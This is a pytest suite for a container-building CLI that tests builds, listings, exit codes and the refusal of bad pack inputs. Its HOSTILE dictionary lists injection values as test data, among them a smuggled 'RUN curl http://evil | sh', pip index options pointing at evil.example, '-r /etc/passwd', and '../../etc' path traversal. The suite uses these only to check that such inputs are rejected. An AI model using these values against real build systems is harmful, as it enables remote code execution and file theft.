"""The command line as a user meets it: real processes, real exit codes, the real engine."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml

from ..support import TEST_PREFIX, EngineRecorder, images_of, unique_ref


def cli(*args: str, env: dict[str, str] | None = None, stdin: str | None = None, state_dir: Path | None = None):
    full_env = {**os.environ, "ATTUNE__CONTAINERS__IMAGE_PREFIX": TEST_PREFIX, **(env or {})}
    if state_dir is not None:
        full_env["ATTUNE__CONTAINERS__STATE_DIR"] = str(state_dir)
    return subprocess.run(
        [sys.executable, "-m", "attune_containers.cli", *args],
        capture_output=True,
        text=True,
        env=full_env,
        input=stdin,
        timeout=600,
    )


def write_pack(root: Path, pack_ref: str, python_dependencies, requirements_txt: str | None = None) -> Path:
    directory = root / pack_ref
    directory.mkdir(parents=True)
    (directory / "pack.yaml").write_text(
        yaml.safe_dump({"ref": pack_ref, "version": "1.0.0", "meta": {"python_dependencies": python_dependencies}})
    )
    if requirements_txt is not None:
        (directory / "requirements.txt").write_text(requirements_txt)
    return directory


def test_build_then_rebuild_reuses(tmp_path, engine, recorder):
    pack_ref = unique_ref("cli")
    pack = write_pack(tmp_path, pack_ref, {"dependencies": ["six==1.17.0"], "min_version": "3.9", "max_version": "3.11"})
    first = cli("build", str(pack), "--json", state_dir=tmp_path / "state", env={"DOCKER_HOST": recorder.url})
    assert first.returncode == 0, first.stderr
    built = json.loads(first.stdout)
    assert built["outcome"] == "built" and built["runtime_version"].startswith("3.11.")
    # The recorder sees a build's changes (what the hostile tests below assert the absence of).
    assert any(path.split("?")[0].endswith(("/build", "/commit", "/containers/create")) for _, path in recorder.changes())
    second = cli("build", str(pack), "--json", state_dir=tmp_path / "state")
    assert second.returncode == 0, second.stderr
    again = json.loads(second.stdout)
    assert again["outcome"] == "reused" and again["id"] == built["id"]
    listed = json.loads(cli("ls", "--pack", pack_ref, "--json").stdout)
    assert [e["id"] for e in listed] == [built["id"]]
    inspected = json.loads(cli("inspect", pack_ref, "--json").stdout)
    assert inspected["installed_dependencies"] and "six==1.17.0" in inspected["installed_dependencies"]
    removed = cli("rm", pack_ref, "--json")
    assert json.loads(removed.stdout)["removed"] == [built["image"]]
    assert images_of(engine, pack_ref) == []


@pytest.fixture
def recorder():
    """What the CLI under test asked the engine (and nothing any other process did meanwhile)."""
    directory = Path(tempfile.mkdtemp(prefix="rec-", dir="/tmp"))  # a socket's path must fit 108 bytes
    relay = EngineRecorder(directory)
    yield relay
    relay.close()
    shutil.rmtree(directory, ignore_errors=True)


HOSTILE = {
    "newline in a requirement": ["requests\nRUN curl http://evil | sh"],
    "dockerfile instruction": ["requests==2.31.0\nFROM scratch"],
    "pip option": ["--index-url=http://evil.example/simple"],
    "extra index": ["--extra-index-url http://evil.example/simple"],
    "editable": ["-e /etc"],
    "include": ["-r /etc/passwd"],
    "local path": ["./evil"],
    "url": ["evil @ https://evil.example/evil.whl"],
    "env expansion": ["requests==${HOME}"],
}


@pytest.mark.parametrize("dependencies", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_requirements_are_refused_with_exit_2(tmp_path, engine, recorder, dependencies):
    pack_ref = unique_ref("hostile")
    pack = write_pack(tmp_path, pack_ref, dependencies)
    for command in ("build", "render", "validate"):
        result = cli(command, str(pack), env={"DOCKER_HOST": recorder.url})
        assert result.returncode == 2, (command, result.stdout, result.stderr)
        assert "error" in result.stderr
    assert images_of(engine, pack_ref) == []
    # A refused pack changes nothing: no build, no container, no tag (a look at the bases is fine).
    assert recorder.changes() == [], recorder.requests()


@pytest.mark.parametrize(
    ("document", "needle"),
    [
        ({"ref": "../../etc", "meta": {}}, "pack_ref"),
        ({"ref": "a/b", "meta": {}}, "pack_ref"),
        ({"ref": "ok", "meta": {"python_dependencies": {"min_version": "3.12", "max_version": "3.10"}}}, "empty"),
        ({"ref": "ok", "meta": {"python_dependencies": {"min_version": "3.14"}}}, "no available Python"),
        ({"ref": "ok", "meta": {"python_dependencies": {"runtime": "ruby"}}}, "unknown runtime"),
        ({"ref": "ok", "meta": {"python_dependencies": {"dependencies": ["six"], "bogus": 1}}}, "bogus"),
    ],
)
def test_hostile_api_documents_are_refused_with_exit_2(document, needle, engine, recorder):
    result = cli("build", "-", stdin=json.dumps(document), env={"DOCKER_HOST": recorder.url})
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert needle in result.stderr
    assert recorder.changes() == [], recorder.requests()


def test_render_prints_the_dockerfile_without_pack_strings(tmp_path):
    pack = write_pack(tmp_path, unique_ref("render"), ["Distinctive-Name-xyz==1.0"])
    result = cli("render", str(pack))
    assert result.returncode == 0, result.stderr
    assert result.stdout.count("\nFROM ") + result.stdout.startswith("FROM ") >= 2
    assert "distinctive" not in result.stdout.lower()
    requirements = cli("render", str(pack), "--requirements")
    assert requirements.stdout == "distinctive-name-xyz==1.0\n"


def test_unreachable_engine_exits_3(tmp_path):
    pack = write_pack(tmp_path, unique_ref("noengine"), ["six==1.17.0"])
    result = cli("build", str(pack), env={"DOCKER_HOST": f"unix://{tmp_path}/no.sock"})
    assert result.returncode == 3, (result.stdout, result.stderr)
    assert "engine" in result.stderr


def test_base_ls_shows_the_configured_versions():
    result = cli("base", "ls", "--json")
    assert result.returncode == 0, result.stderr
    listed = {b["minor"]: b for b in json.loads(result.stdout)}
    assert {"3.9", "3.11", "3.13"} <= set(listed)
    assert all(b["present"] and b["python_version"].startswith(m + ".") for m, b in listed.items())


def test_help_for_every_command():
    for command in ("render", "validate", "build", "ls", "inspect", "rm", "base"):
        result = cli(command, "--help")
        assert result.returncode == 0 and "usage:" in result.stdout, command


def test_scripts_read_ls_and_inspect_with_q_format_and_tabs(tmp_path, engine):
    pack_ref = unique_ref("listing")
    pack = write_pack(tmp_path, pack_ref, {"dependencies": ["six==1.17.0"], "min_version": "3.9", "max_version": "3.11"})
    built = cli("build", str(pack), "--json", state_dir=tmp_path / "state")
    assert built.returncode == 0, built.stderr
    info = json.loads(built.stdout)
    short = info["id"].removeprefix("sha256:")[:12]
    try:
        # Not a terminal: a header and tab-separated rows, no box characters.
        table = cli("ls", "--pack", pack_ref).stdout.splitlines()
        assert table[0].split("\t")[:3] == ["pack_ref", "image", "python"]
        assert table[1].split("\t")[:2] == [pack_ref, info["image"]] and "│" not in "".join(table)
        assert cli("ls", "--pack", pack_ref, "-q").stdout == short + "\n"
        assert cli("inspect", pack_ref, "-q").stdout == short + "\n"
        formatted = cli("ls", "--pack", pack_ref, "--format", r"{{.pack_ref}}\t{{.dependency_hash}}")
        assert formatted.stdout == f"{pack_ref}\t{info['dependency_hash']}\n", formatted.stderr
        inspected = cli("inspect", pack_ref, "--format", "{{.runtime_version}} {{json .installed_dependencies}}")
        assert inspected.stdout == f"{info['runtime_version']} {json.dumps(info['installed_dependencies'])}\n"
    finally:
        assert cli("rm", pack_ref).returncode == 0
    # A pack with no image: exit 1 for inspect and rm alike, a 404 problem under --json.
    for command in ("inspect", "rm"):
        missing = cli(command, pack_ref, "--json")
        assert missing.returncode == 1, (command, missing.stdout, missing.stderr)
        problem = json.loads(missing.stdout)
        assert (problem["status"], problem["exit_code"]) == (404, 1) and pack_ref in problem["detail"]
        assert cli(command, pack_ref).returncode == 1


def test_run_with_an_invalid_pack_is_exit_2(tmp_path, engine):
    pack_ref = unique_ref("badrun")
    folder = write_pack(tmp_path, pack_ref, ["-e /etc"])
    (folder / "actions").mkdir()
    (folder / "actions" / "x.yaml").write_text("entry_point: x.py\n")
    (folder / "actions" / "x.py").write_text("def run():\n    return 1\n")
    result = cli("run", f"{pack_ref}.x", "--packs-dir", str(tmp_path), "--json", state_dir=tmp_path / "state")
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert json.loads(result.stdout)["error"]["type"] == "InvalidSpecError"
    assert images_of(engine, pack_ref) == []


def test_the_build_all_table_shows_pips_error_line(tmp_path, engine):
    write_pack(tmp_path / "tree", unique_ref("pipfails"), ["attune-containers-no-such-dist-xyz==9.9.9"])
    result = cli("build", "--all", "--packs-dir", str(tmp_path / "tree"), state_dir=tmp_path / "state")
    assert result.returncode == 1, result.stderr
    (row,) = result.stdout.splitlines()[1:]
    assert row.split("\t")[3] == "failed"
    assert "ERROR: Could not find a version that satisfies the requirement" in row
